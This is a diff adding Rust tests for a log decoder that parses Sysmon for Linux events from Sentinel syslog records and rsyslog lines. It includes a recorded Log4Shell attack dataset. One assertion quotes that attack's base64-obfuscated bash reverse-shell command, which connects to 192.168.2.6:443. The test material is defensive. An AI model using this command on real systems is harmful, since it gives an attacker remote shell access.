@@ -352,3 +352,172 @@ Feb  5 17:32:19 host su[99]: FAILED SU (to root) bob on pts/1
     assert_eq!(text(e, "auth_result"), Some("failed"));
     assert_eq!(text(e, "tty"), Some("pts/1"));
 }
+
+/// OTRF's Log4Shell capture: Sysmon for Linux events inside Sentinel `Syslog` records. Every
+/// record decodes to its Sysmon fields, with the Sigma category of its EventID.
+#[test]
+fn sysmon_for_linux_in_sentinel_syslog() {
+    let Some(dir) = linux() else { return };
+    let d = decode_path(
+        &dir.join(
+            "otrf-security-datasets/syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json",
+        ),
+        0,
+    );
+    assert_eq!((d.stats.events, d.stats.errors), (93, 0));
+    let mut by_category = std::collections::BTreeMap::new();
+    for e in &d.events {
+        assert_eq!(e.logsource.product.as_deref(), Some("linux"));
+        assert_eq!(e.logsource.service.as_deref(), Some("sysmon"));
+        assert_eq!(text(e, "Provider_Name"), Some("Linux-Sysmon"));
+        *by_category
+            .entry(e.logsource.category.clone().unwrap_or_default())
+            .or_insert(0) += 1;
+    }
+    let want: Vec<(String, i32)> = [
+        ("file_delete", 2),
+        ("file_event", 4),
+        ("network_connection", 6),
+        ("process_creation", 31),
+        ("process_termination", 50),
+    ]
+    .iter()
+    .map(|(c, n)| (c.to_string(), *n))
+    .collect();
+    assert_eq!(by_category.into_iter().collect::<Vec<_>>(), want);
+
+    // Record 8 (the payload below) was cut at 2,012 bytes inside its ParentCommandLine.
+    let cut: Vec<u64> = d
+        .events
+        .iter()
+        .filter(|e| e.get_str("sysmon_truncated").is_some())
+        .filter_map(|e| e.source.record_id)
+        .collect();
+    assert_eq!(cut, [8]);
+
+    // The first process creation: Tomcat's JVM running the Log4Shell payload.
+    let e = d
+        .events
+        .iter()
+        .find(|e| e.logsource.category.as_deref() == Some("process_creation"))
+        .unwrap();
+    assert_eq!(e.get_str("EventID"), Some(&Value::Int(1)));
+    assert_eq!(text(e, "Image"), Some("/bin/bash"));
+    assert_eq!(
+        text(e, "CommandLine"),
+        Some(
+            "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"
+        )
+    );
+    assert_eq!(
+        text(e, "ParentImage"),
+        Some("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java")
+    );
+    assert_eq!(text(e, "User"), Some("tomcat"));
+    assert_eq!(text(e, "ProcessId"), Some("17790"));
+    assert_eq!(text(e, "Computer"), Some("UBUNTU5"));
+    assert_eq!(text(e, "Channel"), Some("Linux-Sysmon/Operational"));
+    // The Sentinel envelope's own fields are kept.
+    assert_eq!(text(e, "HostIP"), Some("192.168.2.5"));
+    assert_eq!(text(e, "ProcessName"), Some("sysmon"));
+    assert!(text(e, "SyslogMessage").is_some_and(|m| m.starts_with("<Event>")));
+    assert_eq!(
+        e.time.map(|t| t.to_string()).as_deref(),
+        Some("2022-05-11T18:10:22.003485Z")
+    );
+
+    // A network connection: the reverse shell's address.
+    let net: Vec<_> = d
+        .events
+        .iter()
+        .filter(|e| e.logsource.category.as_deref() == Some("network_connection"))
+        .collect();
+    assert!(
+        net.iter()
+            .any(|e| text(e, "DestinationIp") == Some("192.168.2.6")
+                && text(e, "DestinationPort") == Some("443")),
+        "{:?}",
+        net.iter()
+            .map(|e| text(e, "DestinationIp"))
+            .collect::<Vec<_>>()
+    );
+    // File events name the file.
+    assert!(
+        d.events
+            .iter()
+            .filter(|e| e.logsource.category.as_deref() == Some("file_event"))
+            .all(|e| text(e, "TargetFilename").is_some())
+    );
+}
+
+/// Sysmon for Linux as rsyslog writes it (`sysmon: <Event>…`), and broken XML counted with
+/// the line, in syslog text and in a Sentinel record alike. (Self-made from the OTRF record's
+/// XML: the first line is its EventID 1 message shortened; the others cut or break it.)
+#[test]
+fn sysmon_for_linux_syslog_lines_and_bad_xml() {
+    let xml = r#"<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><TimeCreated SystemTime="2022-05-11T18:10:22.001232000Z"/><EventRecordID>245770</EventRecordID><Channel>Linux-Sysmon/Operational</Channel><Computer>UBUNTU5</Computer><Security UserId="0"/></System><EventData><Data Name="Image">/usr/bin/whoami</Data><Data Name="CommandLine">whoami</Data><Data Name="ParentImage">/bin/bash</Data><Data Name="User">tomcat</Data></EventData></Event>"#;
+    // Cut short inside a value (as the syslog message size limit does), and before EventID.
+    let cut = &xml[..xml.find("/bash").unwrap()];
+    let early = &xml[..xml.find("<EventID>").unwrap()];
+    let log = format!(
+        "May 11 18:10:22 UBUNTU5 sysmon: {xml}\n\
+         May 11 18:10:23 UBUNTU5 sysmon: {early}\n\
+         May 11 18:10:24 UBUNTU5 sysmon: <Event><System><EventID>1</Sys></Event>\n\
+         May 11 18:10:25 UBUNTU5 sysmon: Sysmon v1.0 started\n"
+    );
+    let d = decode_mem("syslog", log.as_bytes());
+    assert_eq!((d.stats.events, d.stats.errors), (2, 2));
+    assert_eq!(d.events[0].get_str("sysmon_truncated"), None);
+    let e = &d.events[0];
+    assert_eq!(
+        e.logsource.to_string(),
+        "product: linux, category: process_creation, service: sysmon"
+    );
+    assert_eq!(text(e, "Image"), Some("/usr/bin/whoami"));
+    assert_eq!(text(e, "ParentImage"), Some("/bin/bash"));
+    assert_eq!(text(e, "hostname"), Some("UBUNTU5"));
+    assert_eq!(text(e, "program"), Some("sysmon"));
+    // A plain sysmon line (not XML) stays a syslog event.
+    assert_eq!(d.events[1].logsource.service.as_deref(), Some("syslog"));
+    assert_eq!(d.errors[0].record, Some(2));
+    assert!(
+        d.errors[0]
+            .reason
+            .contains("line 2: Sysmon XML cut short at byte 92 before its <EventID>"),
+        "{}",
+        d.errors[0]
+    );
+    assert_eq!(d.errors[1].record, Some(3));
+    assert!(
+        d.errors[1]
+            .reason
+            .contains("line 3: Sysmon XML broken at byte"),
+        "{}",
+        d.errors[1]
+    );
+
+    // The same in Sentinel's JSON: the broken record is an error with its offset, the next
+    // record still decodes.
+    let record = |msg: &str| {
+        serde_json::json!({"Computer": "UBUNTU5", "HostIP": "192.168.2.5", "ProcessName": "sysmon",
+            "SyslogMessage": msg, "Type": "Syslog"})
+        .to_string()
+    };
+    let json = format!("{}\n{}\n{}\n", record(early), record(xml), record(cut));
+    let d = decode_mem("sentinel.json", json.as_bytes());
+    assert_eq!((d.stats.events, d.stats.errors), (2, 1));
+    assert_eq!(d.errors[0].offset, Some(0));
+    assert!(
+        d.errors[0]
+            .reason
+            .contains("record 1: Sysmon XML cut short"),
+        "{}",
+        d.errors[0]
+    );
+    assert_eq!(d.events[0].get_str("EventID"), Some(&Value::Int(1)));
+    // A message cut inside a value keeps what it holds, flagged.
+    let e = &d.events[1];
+    assert_eq!(e.get_str("sysmon_truncated"), Some(&Value::Bool(true)));
+    assert_eq!(text(e, "ParentImage"), Some("/bin"));
+    assert_eq!(text(e, "CommandLine"), Some("whoami"));
+}
